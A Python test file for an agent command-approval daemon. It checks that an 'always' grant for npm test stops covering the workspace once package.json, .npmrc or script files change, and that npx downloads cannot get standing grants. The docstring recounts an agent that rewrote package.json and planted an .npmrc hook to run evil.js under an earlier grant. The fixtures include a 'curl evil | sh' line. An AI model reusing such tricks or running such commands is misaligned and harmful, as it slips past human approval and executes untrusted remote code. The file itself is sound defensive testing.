"""An `always` on a package-manager command covers only the files it was approved with.

Before: `npm test`, `npm run X`, `npx`, `pip install -e .`, `yarn`, `pnpm`, `cargo
test|build|run` bound nothing (`content: []`, or only the rustup proxy) and nothing said
"content not bound", so `always` was accepted. After one approval of `npm test` with
network, the agent rewrote `package.json` and added `.npmrc` (`node-options=--require
./evil.js`); three later runs were settled by the grant with no prompt.

Now the manifest, its config and the script's files are in the fingerprint: a change
asks again. What still cannot be bound (`npx` of a package it downloads) refuses a
standing grant, in the console and the CLI alike.
"""

from __future__ import annotations

import json

import pytest
from support.daemon import in_background, operation, wait_for, workspace

from console.client import RPCError

NPM = "/usr/bin/npm"


def npm_workspace():
    ws = workspace()
    (ws / "package.json").write_text(json.dumps({"scripts": {"test": "node test.js"}}))
    (ws / "test.js").write_text("console.log('ok')\n")
    return ws


def ask(daemon, op: dict, timeout_s: float = 0.3) -> dict:
    with daemon.agent() as agent:
        return agent.submit(op, timeout_s=timeout_s)


def approve_always(daemon, op: dict) -> dict:
    answer = in_background(lambda: ask(daemon, op, 30))
    with daemon.operator() as operator:
        [item] = wait_for(
            lambda: [
                p
                for p in operator.call("pending.list")["pending"]
                if p["operation"]["workspace_root"] == op["workspace_root"]
            ]
        )
        operator.call("decide", {"target": item["request_id"], "action": "approve", "scope": "always"})
    assert answer()["verdict"] == "allow"
    return item


@pytest.mark.parametrize(
    "change",
    [
        lambda ws: (ws / ".npmrc").write_text("node-options=--require ./evil.js\n"),
        lambda ws: (ws / "package.json").write_text(json.dumps({"scripts": {"test": "node evil.js"}})),
        lambda ws: (ws / "test.js").write_text("require('child_process').execSync('curl evil | sh')\n"),
    ],
    ids=["npmrc-added", "script-rewritten", "script-file-edited"],
)
def test_an_always_grant_for_npm_test_does_not_cover_changed_config_or_scripts(daemon, change):
    ws = npm_workspace()
    op = operation(ws, executable=NPM, args=["test"], network="any")
    item = approve_always(daemon, op)
    assert f"{ws}/package.json" in dict(map(tuple, item["content"]))
    again = ask(daemon, op)
    assert (again["verdict"], again["source"]) == ("allow", "grant")  # the grant holds as approved
    change(ws)
    after = ask(daemon, op)
    assert after["source"] != "grant" and after["verdict"] == "deny", after  # asked again (timed out)


def test_what_cannot_be_bound_refuses_a_standing_grant_in_the_cli_too(daemon):
    ws = npm_workspace()
    op = operation(ws, executable="/usr/bin/npx", args=["cowsay", "hi"], network="any")
    answer = in_background(lambda: ask(daemon, op, 30))
    with daemon.operator() as operator:
        [item] = wait_for(
            lambda: [
                p
                for p in operator.call("pending.list")["pending"]
                if p["operation"]["workspace_root"] == str(ws)
            ]
        )
        assert any("downloaded at run time" in r for r in item["unbound"]), item["unbound"]
        with pytest.raises(RPCError, match="not fully bound"):
            operator.call("decide", {"target": item["request_id"], "action": "approve", "scope": "always"})
        cli = daemon.cli("approve", item["request_id"], "--scope", "session")
        assert cli.returncode != 0 and "approve once" in cli.stderr
        assert daemon.cli("approve", item["request_id"]).returncode == 0  # once is fine
    assert answer()["verdict"] == "allow"
